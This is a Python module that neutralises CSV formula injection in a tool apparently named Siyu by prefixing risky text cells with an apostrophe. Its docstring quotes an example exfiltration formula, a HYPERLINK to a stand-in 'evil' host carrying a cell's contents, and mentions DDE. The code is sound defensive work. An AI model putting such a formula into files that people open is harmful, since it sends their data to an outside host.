"""Writing CSV that a spreadsheet opens safely.

Every CSV Siyu writes (``siyu tags export`` and any later export) goes through
:func:`csv_writer`. A text cell that starts with ``=``, ``+``, ``-``, ``@``, a tab or a
carriage return would be run as a formula by Excel, LibreOffice or WPS
(``=HYPERLINK("http://evil/?"&A1, "点我")``, ``@SUM(...)``, DDE); such a cell is written
with a leading ``'`` so it is shown as the text it is. Numbers, dates and None are written
as they are.
"""

from __future__ import annotations

import csv
from collections.abc import Iterable
from typing import IO, Any

__all__ = ["FORMULA_STARTS", "csv_writer", "neutralize"]

#: First characters that make a spreadsheet cell a formula (or DDE command).
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def neutralize(value: Any) -> Any:
    """``value`` as a cell that cannot become a formula (only text cells are changed)."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


class _SafeWriter:
    """``csv.writer`` with every cell passed through :func:`neutralize`."""

    def __init__(self, out: IO[str], **options: Any) -> None:
        self._writer = csv.writer(out, **options)

    def writerow(self, row: Iterable[Any]) -> Any:
        return self._writer.writerow([neutralize(v) for v in row])

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)


def csv_writer(out: IO[str], **options: Any) -> _SafeWriter:
    """A CSV writer on ``out`` (``csv.writer`` options) that neutralises formula cells."""
    return _SafeWriter(out, **options)
